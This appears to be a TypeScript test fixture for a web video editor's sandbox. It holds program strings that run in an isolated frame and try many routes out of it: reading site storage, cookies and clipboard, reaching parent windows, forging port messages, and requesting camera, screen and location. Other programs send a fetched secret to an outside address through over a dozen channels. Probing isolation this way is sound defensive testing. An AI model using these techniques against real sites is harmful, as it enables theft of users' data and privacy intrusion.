/** A program that tries to reach what the site keeps, and what is around its frame. */

/** Before what the program reached, in its console. */
export const REACHED = "reached: ";

/** Keeps something in each of the site's stores. Runs in a page. */
export async function seed(): Promise<void> {
  localStorage.setItem("secret", "kept");
  sessionStorage.setItem("secret", "kept");
  await (await caches.open("secret")).put("/secret", new Response("kept"));
  await new Promise((resolve, reject) => {
    const opening = indexedDB.open("secret");
    opening.onsuccess = resolve;
    opening.onerror = reject;
  });
  // WebKitGTK has no private files.
  await navigator.storage?.getDirectory?.().then((root) => root.getFileHandle("secret", { create: true }));
}

/** Answers every message on the channel of the editor's tabs, as an editor in the page around the program would. */
export function answerOnChannel(): void {
  const channel = new BroadcastChannel("mfx-editor");
  channel.onmessage = () => channel.postMessage("kept");
  // Otherwise it could be collected.
  Object.assign(window, { channel });
}

export const ATTACK = `
const canOpen = (factory: IDBFactory) => new Promise((resolve, reject) => {
  const opening = factory.open("secret");
  opening.onsuccess = () => resolve(true);
  opening.onerror = () => reject(opening.error);
});
const framed = (address: string, sandbox?: string) => new Promise((resolve, reject) => {
  const frame = document.createElement("iframe");
  if (sandbox) frame.setAttribute("sandbox", sandbox);
  frame.src = address;
  frame.onload = () => {
    try {
      resolve(frame.contentWindow!.localStorage.length);
    } catch (error) {
      reject(error);
    }
  };
  document.body.append(frame);
});
/** By code in a frame that takes its origin from the program's. */
const readBy = (source: (code: string) => object) => new Promise((resolve) => {
  addEventListener("message", ({ data }) => data === "kept" && resolve(true));
  const code = 'try { parent.postMessage(localStorage.secret, "*"); } catch { parent.postMessage("nothing", "*"); }';
  document.body.append(Object.assign(document.createElement("iframe"), source(code)));
});
/** What a port or a channel hears after \`ask\`. */
const answered = (listener: EventTarget, ask: () => void) => new Promise((resolve) => {
  listener.addEventListener("message", resolve);
  ask();
});
const pageOf = (code: string) => "<script>" + code + "</" + "script>";
const inWorker = (code: string) => new Promise((resolve, reject) => {
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  worker.onmessage = ({ data }) => (data ? resolve(data) : reject(new Error("no")));
  worker.onerror = reject;
});
const ways: Record<string, () => unknown> = {
  "private files": () => navigator.storage.getDirectory(),
  localStorage: () => localStorage.secret,
  sessionStorage: () => sessionStorage.secret,
  IndexedDB: () => canOpen(indexedDB),
  "databases": async () => (await indexedDB.databases()).length || Promise.reject(new Error("none")),
  caches: () => caches.has("secret"),
  cookies: () => { document.cookie = "a=b"; return document.cookie; },
  locks: () => navigator.locks.query(),
  "service worker": () => navigator.serviceWorker.getRegistrations(),
  "a worker's IndexedDB": () => inWorker('try { const o = indexedDB.open("secret"); o.onsuccess = () => postMessage(1); o.onerror = () => postMessage(0); } catch { postMessage(0); }'),
  "a worker's caches": () => inWorker('try { caches.has("secret").then((is) => postMessage(Number(is)), () => postMessage(0)); } catch { postMessage(0); }'),
  parent: () => parent.document.title,
  top: () => top!.localStorage.secret,
  "the page's address": () => top!.location.href,
  "the frame's element": () => frameElement ?? Promise.reject(new Error("none")),
  "the page's navigation": () => { top!.location.href = "/editor"; return true; },
  opener: () => opener ?? Promise.reject(new Error("none")),
  "a new window": () => open("/editor") ?? Promise.reject(new Error("none")),
  "a frame of the site": () => framed(new URL("/live/frame.html", document.baseURI).href),
  "an empty frame": () => framed("about:blank"),
  "a frame of a text": () => readBy((code) => ({ srcdoc: pageOf(code) })),
  "a frame of a blob": () => readBy((code) => ({ src: URL.createObjectURL(new Blob([pageOf(code)], { type: "text/html" })) })),
  "a frame of a script": () => readBy((code) => ({ src: "javascript:" + code })),
  "a frame of the editor": () => framed(new URL("/editor", document.baseURI).href),
  "the page's history": () => top!.history.length,
  "the editor's channel": () => {
    const channel = new BroadcastChannel("mfx-editor");
    return answered(channel, () => channel.postMessage({ id: "1" }));
  },
  "the page by messages": () => {
    const { port1, port2 } = new MessageChannel();
    port1.start();
    return answered(port1, () => {
      for (const type of ["GET", "APPLY", "ENDPOINT"]) {
        const asked = { id: "1", type, path: ["localStorage"], argumentList: [] };
        port1.postMessage(asked);
        for (const window of [parent, top!]) window.postMessage(asked, "*", [new MessageChannel().port2]);
      }
      for (const window of [parent, top!]) window.postMessage({ type: "drag" }, "*");
      top!.postMessage("connect", "*", [port2]);
    });
  },
  "the page by the frame's port": () => new Promise((resolve) => {
    const { postMessage } = MessagePort.prototype;
    MessagePort.prototype.postMessage = function (this: MessagePort, ...sent: unknown[]) {
      MessagePort.prototype.postMessage = postMessage;
      this.addEventListener("message", ({ data }) => data?.id === "forged" && resolve(true));
      for (const type of ["GET", "APPLY", "CONSTRUCT", "ENDPOINT"])
        this.postMessage({ id: "forged", type, path: [], argumentList: [] });
      return Reflect.apply(postMessage, this, sent);
    };
    console.log("Asking.");
  }),
  "the camera's permission": () => Reflect.get(document, "featurePolicy").allowsFeature("camera") || Promise.reject(new Error("no")),
  "the camera": () => MediaDevices.prototype.getUserMedia.call(navigator.mediaDevices, { video: true }),
  "the screen": () => MediaDevices.prototype.getDisplayMedia.call(navigator.mediaDevices, { video: true }),
  "the reader's place": () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  "storage access": async () => { await document.requestStorageAccess(); return localStorage.secret; },
  "a new service worker": () => navigator.serviceWorker.register(new URL("/sw.js", document.baseURI)),
  "a shared worker's IndexedDB": () => new Promise((resolve, reject) => {
    const code = 'onconnect = ({ ports: [port] }) => { try { const o = indexedDB.open("secret"); o.onsuccess = () => port.postMessage(1); } catch {} }';
    const worker = new SharedWorker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    worker.port.onmessage = resolve;
    worker.onerror = reject;
  }),
  "a worker's private files": () => inWorker('try { navigator.storage.getDirectory().then(() => postMessage(1), () => postMessage(0)); } catch { postMessage(0); }'),
  "a frame with another sandbox": () => framed(new URL("/live/frame.html", document.baseURI).href, "allow-scripts allow-same-origin"),
  clipboard: () => navigator.clipboard.readText(),
  "the page by a link": () => {
    for (const target of ["_parent", "_top", "_blank"])
      Object.assign(document.body.appendChild(document.createElement("a")), { href: new URL("/editor", document.baseURI), target }).click();
  },
  "the page by a form": () => {
    for (const target of ["_parent", "_top", "_blank"])
      Object.assign(document.body.appendChild(document.createElement("form")), { action: new URL("/editor", document.baseURI), target }).submit();
  },
  "the page by its name": () => open(new URL("/editor", document.baseURI), "_parent") ?? Promise.reject(new Error("none")),
  "the page by a link of code": () => new Promise((resolve) => {
    addEventListener("message", ({ data }) => data === "kept" && resolve(true));
    const href = "javascript:for (let i = 0; i < length; i++) frames[i].postMessage(localStorage.secret, '*')";
    for (const target of ["_parent", "_top"])
      Object.assign(document.body.appendChild(document.createElement("a")), { href, target }).click();
  }),
  "the page by a shared domain": () => { document.domain = new URL(document.baseURI).hostname; return parent.document.title; },
  "who opened the page": () => top!.opener ?? Promise.reject(new Error("none")),
  "a window in the picture": () => Reflect.get(window, "documentPictureInPicture").requestWindow(),
  "another program's frame": () => [...Array(parent.length).keys()].map((at) => {
    const { port1, port2 } = new MessageChannel();
    parent[at]!.postMessage("connect", "*", [port2]);
    return new Promise((resolve) => {
      port1.onmessage = () => resolve(true);
      port1.postMessage({ id: "1", type: "APPLY", path: ["position"], argumentList: [] });
      setTimeout(resolve, 500, undefined);
    });
  }).at(-1),
  "parent's frames": () => [...Array(parent.length).keys()].some((at) => parent[at] !== window && parent[at]!.document) || Promise.reject(new Error("none")),
};
/** What does not answer is not reached. Each way is a task of its own: together, they may block the frame for too long. */
const reaches = (reach: () => unknown) => Promise.race([
  new Promise((resolve) => setTimeout(resolve)).then(reach).then((value) => value ?? false, () => false),
  new Promise((resolve) => setTimeout(resolve, 5000, false)),
]);
const tried = await Promise.all(Object.entries(ways).map(async ([name, reach]) => (await reaches(reach)) ? [name] : []));
const reached = tried.flat();
console.log("${REACHED}" + (reached.join(", ") || "nothing"));`;

/** Goes to a page of the site. */
const LEAVING = `location.href = new URL("/robots.txt", document.baseURI).href; await new Promise(() => {});`;

/** Stays in its document, though WebKit reports that the frame has loaded again. */
const JUMPING = `Object.assign(document.body.appendChild(document.createElement("a")), { href: "#there" }).click();
await new Promise((resolve) => setTimeout(resolve, 3000));
show("stayed");`;

/** Programs that go elsewhere, and how each ends. */
export const GOING = [
  [LEAVING, "failed"],
  [JUMPING, "done"],
] as const;

/** Ways to another page, each of which may end the program. */
const WAYS_OUT: Record<string, string> = {
  form: 'add("form", { action: to("form"), method: "post" }).submit()',
  download: 'add("a", { href: to("download"), download: "file" }).click()',
  window: 'open(to("window"))',
  refresh: 'add("meta", { httpEquiv: "refresh", content: "0; url=" + to("refresh") })',
  navigation: 'location.href = to("navigation")',
};

/** Programs that try to send their `video` to another site. */
export const sendingTo = (address: string): string[] =>
  Object.values(WAYS_OUT).map(
    (leave) => `
const secret = await (await fetch(video)).text();
const to = (way: string) => "${address}/" + way + "?" + secret;
const add = (name: string, properties: object) => document.body.appendChild(Object.assign(document.createElement(name), properties));
const ways: (() => unknown)[] = [
  () => fetch(to("fetch"), { mode: "no-cors" }),
  () => { const request = new XMLHttpRequest(); request.open("GET", to("request")); request.send(); },
  () => navigator.sendBeacon(to("beacon")),
  () => { new Image().src = to("image"); },
  () => { document.createElement("video").src = to("video"); },
  () => new EventSource(to("events")),
  () => new WebSocket(to("socket").replace("http", "ws")),
  () => import(to("script")),
  () => add("link", { rel: "stylesheet", href: to("style") }),
  () => add("link", { rel: "prefetch", href: to("prefetch") }),
  () => new FontFace("f", "url(" + to("font") + ")").load(),
  () => add("p", { style: "background: url(" + to("background") + ")" }),
  () => add("iframe", { src: to("frame") }),
  () => add("object", { data: to("object") }),
  () => add("a", { ping: to("ping"), href: "#" }).click(),
  () => new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(to("worker")) + ", { mode: 'no-cors' })"]))),
];
const tryOut = (way: () => unknown) => Promise.resolve().then(way).catch(() => {});
for (const way of ways) void tryOut(way);
await new Promise((resolve) => setTimeout(resolve, 1000));
console.log("leaving");
await tryOut(() => ${leave});`,
  );

/** Chooses a file of the reader's: a clip of the site, or else a secret. Runs in a page. */
export async function chooseFile(clip?: string): Promise<void> {
  const input = document.querySelector<HTMLInputElement>("input[type=file]")!;
  const content = clip ? await (await fetch(clip)).blob() : "secret";
  const chosen = new DataTransfer();
  chosen.items.add(new File([content], "mine.mp4", { type: "video/mp4" }));
  input.files = chosen.files;
  input.dispatchEvent(new Event("change", { bubbles: true }));
}
